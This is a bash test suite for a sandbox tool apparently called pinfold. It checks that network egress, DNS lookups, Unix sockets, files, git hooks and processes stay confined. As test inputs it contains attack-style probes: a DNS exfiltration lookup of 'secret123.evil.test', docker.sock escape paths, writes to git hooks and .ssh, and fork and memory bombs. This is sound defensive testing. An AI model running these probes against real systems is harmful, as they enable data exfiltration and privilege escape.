#!/bin/bash
# SPDX-License-Identifier: MIT
# Field cases: what users of comparable tools ran into, by the ids of docs/threat-model.md.
. "$(dirname "$0")/lib.sh"
lab
need node git python3 dig
denied='^denied EPERM$'
refused='^denied (EACCES|ENOENT|EPERM|EROFS)$'
any='^(denied|slow|failed) '
# A /run of our own, so that fakes of well-known sockets can stand at their real paths.
mount -t tmpfs none /run
net() { # RULES (JSON list of allowOutbound) [more network members]: a policy file
	policy '{"version": 1, "network": {"allowOutbound": '"$1${2:+, $2}"'}}'
}

# --- A: the network --------------------------------------------------------------------------------
check 'P01 node fetch, which reads no proxy variable, reaches an allowed host' \
	pen --allow api.test:80 -- node -e 'fetch("http://api.test/").then(r => r.text())'
expect 'P02 plain HTTP to a host that is not allowed is refused' "$any" probe --allow api.test:443 -- tcp other.test 80
expect 'P02 plain HTTP to the allowed host on a port that is not is refused' "$denied" \
	probe --allow api.test:443 -- tcp api.test 80
fresh_log
expect 'P03 an allowed host is not reachable on another port' "$denied" probe --allow api.test:443 -- tcp api.test 8443
logged 'P03 the record says that it was the port' 'ev.event == "net_deny" and "port" in ev.reason and ev.name == "api.test"'
p=$(net '["api.test:443", "other.test:443"]')
expect 'P04 two explicit names work' '^ok ok .*ok ok ' pen -p "$p" -- sh -c \
	'echo $(python3 ./probe tcp api.test 443; python3 ./probe tcp other.test 443)'
expect 'P04 and a third address is refused' "$denied" probe -p "$p" -- tcp 203.0.113.7 443
expect 'P05 an empty list allows nothing' "$denied" probe -p "$(net '[]')" -- tcp 198.51.100.10 443
for list in '[""]' '[","]' '[" "]'; do
	status "P05 a blank entry is an error: $list" 65 pen -p "$(net "$list")" -- true
done
expect 'P07 a literal address is no way around names' "$denied" probe --allow api.test:443 -- tcp 198.51.100.20 443
expect 'P09 v4-mapped private space is private' "$denied" probe -p "$(net '["*:443"]')" -- tcp6 ::ffff:10.9.9.9 443
expect 'P10 with TCP allowed UDP is not' "$denied" probe --allow api.test:443 -- udp api.test 443
expect 'P10 with UDP allowed TCP is not' "$denied" probe --allow api.test:443/udp -- tcp api.test 443
expect 'P11 sendmsg of a list of datagrams to a refused address is refused' '^EPERM$' pen -- python3 -c '
import errno, socket
s = socket.socket(type=socket.SOCK_DGRAM)
try: s.sendmsg([b"x"], [], 0, ("198.51.100.20", 443)); print("sent")
except OSError as e: print(errno.errorcode[e.errno])'
expect 'P12 a name that has only IPv6 works' '^ok ok 2001:db8::10$' probe --allow v6only.test:443 -- tcp v6only.test 443
expect 'P12 an IPv6 literal that is not allowed is refused' "$denied" probe --allow api.test:443 -- tcp 2001:db8::10 443
expect 'P13 an allowed host is reachable with fast open' '^ok ' pen --allow api.test:443 -- \
	sh -c 'getent hosts api.test >/dev/null; python3 ./probe fastopen_connect 198.51.100.10 443'
expect 'P15 descriptors of the launcher do not pass' '^ok 0 1 2$' bash -c "
	exec 9<>/dev/tcp/198.51.100.20/443 11</; cd '$WS' && '$PINFOLD' run -- python3 ./probe fds"
check 'P15 a socket as standard input is refused or named' python3 -c '
import socket, subprocess, sys
s = socket.create_connection(("198.51.100.20", 443))
r = subprocess.run(sys.argv[1:], stdin=s, capture_output=True, text=True)
sys.exit(not (r.returncode == 125 and "pinfold:" in r.stderr))' \
	bash -c "cd '$WS' && exec '$PINFOLD' run -- true"
expect 'P17 a refusal comes at once, with the errno of the policy' '^denied EHOSTUNREACH$' \
	probe -p "$(net '[]' '"denyErrno": "EHOSTUNREACH"')" -- tcp 198.51.100.20 443
expect 'P18 a host service on ::1 is as far as one on 127.0.0.1' "$denied" probe -- tcp ::1 5432
expect 'P18 localhost:5432 opens both' '^ok .*ok ' pen --allow localhost:5432 -- sh -c \
	'echo $(python3 ./probe tcp 127.0.0.1 5432; python3 ./probe tcp ::1 5432)'
expect 'P21 ssh reaches an allowed host without a helper' 'SSH-2.0-lab' \
	pen --allow git.test:22 -- bash -c 'exec 3<>/dev/tcp/git.test/22; head -n 1 <&3'
p=$(net '["shared-a.test:443"]')
expect 'P22 a shared address is reachable by name' '^ok ' probe -p "$p" -- tcp shared-a.test 443
# What holds the connection to its name is in sni.sh.
expect 'P22 why says that other names are served there, and what helps' 'verify.*sni' \
	"$PINFOLD" why -p "$p" connect shared-a.test:443
expect 'P22 the other name on it does not resolve' '^denied NXDOMAIN$' probe -p "$p" -- lookup shared-b.test
expect 'P24 an open connection outlives its lifetime, a new one does not' '^alive denied EPERM$' \
	pen -p "$(net '["ttl1.test:8443"]' '"dns": {"minTtl": 1}')" -- python3 -c '
import errno, socket, time
s = socket.create_connection(("ttl1.test", 8443), 2); s.recv(99)
for i in range(4):
    time.sleep(1); s.send(b"x"); assert s.recv(9) == b"x"
try: socket.create_connection(("198.51.100.20", 8443), 2); new = "open"
except OSError as e: new = "denied " + errno.errorcode[e.errno]
print("alive", new)'
fresh_log
expect 'P27 a private address needs a literal' '^denied ' probe --allow artifactory.test:443 -- tcp artifactory.test 443
logged 'P27 and the advice names it' '"10.9.9.9" in ev.text() and "allow" in str(ev.advice)'
p=$(net '["*.wild.test:443"]' '"denyOutbound": ["bad.wild.test"]')
expect 'P30 a wildcard works' '^ok ' probe -p "$p" -- tcp a.wild.test 443
expect 'P30 a deny below it wins' '^denied NXDOMAIN$' probe -p "$p" -- lookup bad.wild.test
expect 'P31 a wildcard does not open other names' '^denied NXDOMAIN$' probe -p "$p" -- lookup other.test
expect 'P31 nor addresses' "$denied" probe -p "$p" -- tcp 203.0.113.7 443
expect 'P31 an entry that does not resolve relaxes nothing' "$denied" \
	probe -p "$(net '["nowhere.test:443"]')" -- tcp 203.0.113.7 443
expect 'P115 a wildcard bind stays on loopback' '^ok listening on 127.0.0.1$' probe -- listen 0.0.0.0 8090

# --- B: names --------------------------------------------------------------------------------------
allow='--allow api.test:443'
# shellcheck disable=SC2086
in_pen() { pen $allow -- "$@"; }
: >"$LAB_DIR/dns.log"
in_pen dig +tries=1 +time=1 secret123.evil.test >/dev/null
in_pen dig +tries=1 +time=1 TXT x.api.test >/dev/null
in_pen dig +tries=1 +time=1 TXT "$(printf 'a%.0s' $(seq 50)).api.test" >/dev/null
absent 'P34 a lookup carries nothing out' 'evil|x\.api|aaaa' "$LAB_DIR/dns.log"
expect 'P35 over TCP another name is refused' 'NXDOMAIN|REFUSED' in_pen dig +tcp +tries=1 +time=2 other.test
# shellcheck disable=SC2086
{
	expect 'P35 DNS over TLS is refused' "$denied" probe $allow -- tcp 203.0.113.7 853
	expect 'P35 DNS over HTTPS by address is refused' "$denied" probe $allow -- tcp 203.0.113.7 443
}
expect 'P37 a chain of eight aliases works' '^ok ok 198.51.100.10$' probe --allow chain1.test:443 -- tcp chain1.test 443
expect 'P37 with the ports of the name that was asked' "$denied" probe --allow chain1.test:443 -- tcp chain1.test 8443
expect 'P39 an alias into private space is refused' '^denied ' probe --allow steered.test:443 -- tcp steered.test 443
expect 'P40 of a mixed answer only the public address stays' '^ok 198.51.100.10$' \
	probe --allow mixed.test:443 -- lookup mixed.test
for t in HTTPS SVCB TXT ANY MX; do
	expect "P43 type $t brings no address" '^0$' in_pen sh -c "dig +tries=1 +time=2 +noall +answer $t api.test | grep -c '198.51' || true"
done
for t in HTTPS SVCB; do
	expect "P43 type $t of an allowed name is answered, and empty" '^NOERROR 0$' in_pen sh -c "dig +tries=1 +time=5 $t api.test |
		sed -n 's/.*status: \([A-Z]*\).*/\1/p; s/.*ANSWER: \([0-9]*\).*/\1/p' | tr '\n' ' ' | sed 's/ \$//'"
	expect "P43 type $t of another name is refused" 'status: NXDOMAIN' in_pen dig +tries=1 +time=5 "$t" other.test
done
absent 'P43 neither is asked for upstream' 'https|svcb|type=?6[45]' "$LAB_DIR/dns.log"
expect 'P43 an address that only a hint could have told is refused' "$denied" in_pen python3 ./probe tcp4 10.9.9.9 443
expect 'P44 an answer comes from the server that was asked' '^192.0.2.1 53$' in_pen python3 -c '
import socket, struct
q = struct.pack("!6H", 7, 256, 1, 0, 0, 0) + b"\3api\4test\0" + struct.pack("!2H", 1, 1)
s = socket.socket(type=socket.SOCK_DGRAM); s.settimeout(3); s.sendto(q, ("192.0.2.1", 53))
data, peer = s.recvfrom(999); print(*peer)'
expect 'P44 of IPv6 too' '2001:db8:99::1' in_pen dig +tries=1 +time=2 @2001:db8:99::1 api.test
mkdir -p /run/systemd/resolve /run/nscd /run/avahi-daemon /run/dbus
# They accept and hang up: the host's own lookups must not wait for a false nscd.
python3 - <<'P' &
import os, selectors, socket
wait = selectors.DefaultSelector()
for p in ("/run/systemd/resolve/io.systemd.Resolve", "/run/nscd/socket", "/run/avahi-daemon/socket",
          "/run/dbus/system_bus_socket", "/run/docker.sock", "/run/outside.sock"):
    s = socket.socket(socket.AF_UNIX); s.bind(p); os.chmod(p, 0o777); s.listen()
    wait.register(s, selectors.EVENT_READ)
while True:
    for key, _ in wait.select(): key.fileobj.accept()[0].close()
P
started+=($!)
until_true 5 test -S /run/outside.sock
expect 'bare: a fake docker.sock answers' '^ok connected$' bare unix /run/docker.sock
for s in systemd/resolve/io.systemd.Resolve nscd/socket avahi-daemon/socket dbus/system_bus_socket; do
	expect "P45 /run/$s is out of reach" "$refused" probe -- unix "/run/$s"
done
expect 'P45 names still resolve' '^198.51.100.10' in_pen getent hosts api.test
echo '10.9.9.9 api.test' >"$T/hosts" && mount --bind "$T/hosts" /etc/hosts
# shellcheck disable=SC2086
expect 'P50 the hosts file opens no private space' '^denied ' probe $allow -- tcp4 10.9.9.9 443
umount /etc/hosts
expect 'P52 a refused name and one that does not exist look alike' '^same$' pen --allow '*.test:443' -- sh -c \
	'a=$(dig +tries=1 +time=2 nothere.test | grep -o NXDOMAIN); b=$(dig +tries=1 +time=2 no.evil | grep -o NXDOMAIN)
	[ "$a" = "$b" ] && echo same'

# --- D: unix sockets -------------------------------------------------------------------------------
ln -sf /run/docker.sock "$WS/sock"
expect 'P74 docker.sock' "$refused" probe -- unix /run/docker.sock
expect 'P74 by its other name' "$refused" probe -- unix /var/run/docker.sock
expect 'P74 by a relative path' "$refused" pen -- sh -c "cd / && python3 '$WS/probe' unix run/docker.sock"
expect 'P74 with .. in the path' "$refused" probe -- unix "$WS/../../../run/docker.sock"
expect 'P74 by a symlink in the workspace' "$refused" probe -- unix ./sock
expect 'P74 through /proc' "$refused" probe -- unix /proc/self/root/run/docker.sock
expect 'P74 even when its directory is granted' '^denied EPERM$' probe --ro /run -- unix /run/docker.sock
mkdir "$T/granted"
python3 -c 'import os, socket, sys
s = socket.socket(socket.AF_UNIX); s.bind(sys.argv[1]); os.chmod(sys.argv[1], 0o777); s.listen()
while True: s.accept()[0].close()' "$T/granted/control.sock" &
started+=($!)
until_true 5 test -S "$T/granted/control.sock"
expect 'P74 a socket in any tree that is granted for reading is out of reach' '^denied EPERM$' \
	probe --ro "$T/granted" -- unix "$T/granted/control.sock"
expect 'P80 an allowed socket is reachable' '^ok connected$' \
	probe -p "$(policy '{"version": 1, "unixSockets": {"allow": ["/run/outside.sock"]}}')" -- unix /run/outside.sock
expect 'P80 its neighbour is not' "$refused" \
	probe -p "$(policy '{"version": 1, "unixSockets": {"allow": ["/run/outside.sock"]}}')" -- unix /run/docker.sock
expect 'P77 a socketpair works' '^x$' pen -- python3 -c '
import socket; a, b = socket.socketpair(); a.send(b"x"); print(b.recv(1).decode())'
expect 'P78 a socket in TMPDIR works' '^ok$' pen -- python3 -c '
import os, socket
p = os.environ["TMPDIR"] + "/s"; s = socket.socket(socket.AF_UNIX); s.bind(p); s.listen()
socket.socket(socket.AF_UNIX).connect(p); print("ok")'
expect 'P82 families beyond the usual are refused' "$refused|AFNOSUPPORT" probe -- sock AF_ALG SOCK_SEQPACKET

# --- C: files --------------------------------------------------------------------------------------
mkdir -p "$WS/a" && chown "$TENANT" "$WS/a"
status 'P53 a denied path that does not exist stops no launch' 0 pen --deny "$WS/.env" --deny "$WS/.git/hooks" -- true
check 'P53 and leaves no stub in the workspace' test ! -e "$WS/.env" -a ! -e "$WS/.git"
echo k >"$WS/a/.env" && chown "$TENANT" "$WS/a/.env"
p=$(policy '{"version": 1, "filesystem": {"deny": ["**/.env"]}}')
expect 'P54 a pattern holds for a file that exists' "$refused" probe -p "$p" -- read "$WS/a/.env"
expect 'P54 whatever the directory of the caller' "$refused" pen -p "$p" -- sh -c 'cd a && python3 ../probe read .env'
echo k >"$WS/a/my.key" && chown "$TENANT" "$WS/a/my.key"
p=$(policy '{"version": 1, "filesystem": {"deny": ["**/*.key"]}}')
expect 'P54 so does any other pattern' "$refused" probe -p "$p" -- read "$WS/a/my.key"
expect 'P54 what is planted under a denied name does not survive in place' '^gone$' bash -c "
	cd '$WS' && '$PINFOLD' run --quiet --log '$LOG' -p '$p' -- sh -c 'echo k > a/planted.key'
	test -e '$WS/a/planted.key' || echo gone"
# What was moved out stays for the operator; here that is us.
sed -n 's|.*"movedTo":"\(/var/lib/pinfold/quarantine/[0-9a-f]*\)/.*|\1|p' "$LOG" | sort -u | while IFS= read -r dir; do rm -rf "$dir"; done
rmdir /var/lib/pinfold/quarantine /var/lib/pinfold 2>/dev/null || true
mkdir -p "$WS/out/keep" && echo k >"$WS/out/keep/f" && chown -R "$TENANT" "$WS/out"
p=$(policy '{"version": 1, "workspace": "'"$WS"'", "workspaceAccess": "ro", "filesystem": {"rw": ["'"$WS"'/out"], "deny": ["'"$WS"'/out/keep"]}}')
expect 'P56 the longest grant wins: read' '^ok ' probe -p "$p" -- read "$WS/probe"
expect 'P56 not write' "$refused" probe -p "$p" -- write "$WS/new"
expect 'P56 write below it' '^ok ' probe -p "$p" -- write "$WS/out/new"
expect 'P56 and a deny below that' "$refused" probe -p "$p" -- read "$WS/out/keep/f"
mkdir -p "$T/home/.ssh" && echo k >"$T/home/.ssh/id" && chmod -R a+rwX "$T/home"
export HOME=$T/home
expect 'P57 a denied directory is no empty writable one' "$refused" probe --rw "$T/home" -- write "$T/home/.ssh/new"
expect 'P57 it cannot be listed' '^no$' pen --rw "$T/home" -- sh -c "ls '$T/home/.ssh' 2>/dev/null && echo yes || echo no"
setpriv --reuid=$TENANT --regid=$TENANT --clear-groups git init -q "$WS/repo"
setpriv --reuid=$TENANT --regid=$TENANT --clear-groups git init -q "$WS/repo/nested"
for r in repo repo/nested; do
	expect "P59 hooks of $r cannot be planted" "$refused" probe -- write "$WS/$r/.git/hooks/pre-commit"
	expect "P59 its configuration cannot be changed" "$refused" probe -- write "$WS/$r/.git/config"
	expect "P59 commits work in $r" '^one$' pen -- sh -c "cd $r && echo x > f && git add f &&
		git -c user.name=a -c user.email=a@b.test commit -qm one && git log --format=%s | tail -1"
done
expect 'P65 the temporary directory is private to the session' '^no$' bash -c "
	cd '$WS' && '$PINFOLD' run -- sh -c 'echo x > /tmp/mine' && '$PINFOLD' run -- sh -c 'test -e /tmp/mine && echo yes || echo no'"
mkdir -p "$WS/l1" "$WS/l2" && echo 2 >"$WS/l2/f" && chown -R "$TENANT" "$WS/l1" "$WS/l2"
p=$(policy '{"version": 1, "workspace": "'"$WS"'", "lane": "l1", "fenceToLane": true}')
lane() { (cd "$WS/l1" && "$PINFOLD" run --quiet --log "$LOG" -p "$p" -- "$@"); }
expect 'P68 a lane is writable' '^ok$' lane sh -c 'echo x > mine && echo ok'
expect 'P68 its neighbour is not readable' '^no$' lane sh -c "cat '$WS/l2/f' 2>/dev/null && echo yes || echo no"
expect 'P68 nothing moves between lanes' '^no$' lane sh -c "mv mine '$WS/l2/' 2>/dev/null && echo yes || echo no"
ln -s "$T" "$WS/planted"
mkdir -p "$T/outside"
chmod 777 "$T/outside"
expect 'P68 a planted symlink is no lane' 'goes through a symlink of the workspace' \
	"$PINFOLD" run -p "$(policy '{"version": 1, "workspace": "'"$WS"'", "lane": "planted/outside", "fenceToLane": true}')" -- touch "$T/outside/f"
check 'P68 and nothing was made behind it' test ! -e "$T/outside/f"
rm -rf "$WS/planted" "$T/outside"
expect 'P63 no disk, memory or kvm device' '^$' pen -- sh -c 'for d in sda vda mem kvm kmsg; do cat /dev/$d 2>/dev/null | head -c 1; done; true'

# --- E: processes ----------------------------------------------------------------------------------
sleep 600 &
victim=$!
started+=("$victim")
expect 'P88 a process outside cannot be signalled' '^no$' pen -- sh -c "kill -0 $victim 2>/dev/null && echo yes || echo no"
expect 'P87 the cgroup tree is hidden' "$refused" probe -- write /sys/fs/cgroup/unified/cgroup.procs
expect 'P89 no user namespace is needed, and none can be made' '^no$' pen -- sh -c 'unshare -Urm true 2>/dev/null && echo yes || echo no'
expect 'P92 setuid programs gain nothing' '^Uid:.10001.10001.10001.10001$' pen -- grep Uid /proc/self/status
p=$(policy '{"version": 1, "limits": {"pids": 32, "memory": "64M"}}')
expect 'P93 the limit of processes holds' 'EAGAIN' pen -p "$p" -- python3 -c '
import errno, os, time
n = 0
try:
    while n < 100:
        if os.fork() == 0: time.sleep(5); os._exit(0)
        n += 1
    print("no limit")
except OSError as e: print(errno.errorcode[e.errno], n)'
expect 'P93 the limit of open files holds, and cannot be raised' '^64 64 EMFILE$' \
	pen -p "$(policy '{"version": 1, "limits": {"files": 64}}')" -- sh -c 'ulimit -Hn 4096 2>/dev/null; echo $(ulimit -n; ulimit -Hn; python3 -c "
import errno, os
try:
    for i in range(100): os.dup(0)
except OSError as e: print(errno.errorcode[e.errno])")'
expect 'P93 the limit of memory holds' '^137$' pen -p "$p" -- sh -c 'python3 -c "x = bytearray(300 << 20)" 2>/dev/null; echo $?'

finish
